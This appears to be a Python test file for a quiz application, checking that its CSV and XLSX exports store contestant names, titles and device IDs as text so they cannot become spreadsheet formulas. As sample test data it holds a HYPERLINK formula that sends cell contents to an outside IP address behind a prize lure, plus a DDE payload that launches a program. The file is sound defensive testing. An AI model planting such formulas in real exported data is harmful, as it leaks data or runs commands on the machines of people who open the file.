"""Every CSV and XLSX the project writes keeps typed text as text: a contestant named
``=HYPERLINK(...)`` must not become a live formula in the organiser's spreadsheet. One rule
(:mod:`quiz.celltext`) for every writer; one test per writer here (the report's tables and the
draws' export have theirs in test_exports.py and tests/audience/test_draw.py)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.orm import Session

from quiz.celltext import cell_text, is_formula_like
from quiz.db import make_engine, migrate
from quiz.fair import BuzzReceipt
from quiz.live.fairness import export as export_receipts
from quiz.models.live import Contestant, QuizEvent
from quiz.report.tables import Column, Table, write_xlsx
from tests.conftest import QUIZ

ATTACK = '=HYPERLINK("http://203.0.113.9/?leak="&A1,"点我领奖")'


def test_the_rule() -> None:
    assert [cell_text(t) for t in ("=1+2", "+1", "-1", "@x", "\tx", "x=1", "王五")] == [
        "'=1+2",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "x=1",
        "王五",
    ]
    assert cell_text(-3) == -3 and cell_text(None) is None  # numbers stay numbers
    assert is_formula_like(ATTACK) and not is_formula_like("红队")


def test_quiz_export_csv_writes_a_formula_name_as_text(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'quiz.sqlite3'}"
    engine = make_engine(url)
    migrate(engine)
    with Session(engine) as session:
        event = QuizEvent(title="@title", lang="zh-CN")
        session.add(event)
        session.flush()
        session.add(Contestant(event_id=event.id, name=ATTACK))
        session.commit()
    engine.dispose()
    command = [str(QUIZ)] if QUIZ.exists() else [sys.executable, "-m", "quiz"]
    out = subprocess.run(
        [*command, "export", "--format", "csv", "-o", str(tmp_path / "csv"), "--database-url", url],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    with (tmp_path / "csv" / "contestants.csv").open(encoding="utf-8-sig") as f:
        names = [r["name"] for r in csv.DictReader(f)]
    assert names == ["'" + ATTACK]
    with (tmp_path / "csv" / "events.csv").open(encoding="utf-8-sig") as f:
        assert [r["title"] for r in csv.DictReader(f)] == ["'@title"]


def test_buzz_receipts_csv_keeps_a_phone_chosen_id_as_text() -> None:
    receipt = BuzzReceipt(
        device_id="=cmd|'/c calc'!A1", side="red", rule="arrival", arrival_ms=1, press_server_ms=1
    )
    rows = list(csv.DictReader(io.StringIO(export_receipts([receipt], "csv"))))
    assert rows[0]["device_id"] == "'=cmd|'/c calc'!A1"
    assert rows[0]["arrival_ms"] == "1"


def test_xlsx_cells_starting_with_equals_stay_text() -> None:
    table = Table("matches", (Column("report.col.match"),), ((ATTACK,), (12,)))
    buffer = io.BytesIO()
    write_xlsx([table], buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    cell = sheet.cell(row=2, column=1)
    assert cell.value == ATTACK and cell.data_type == "s"
    assert sheet.cell(row=3, column=1).value == 12
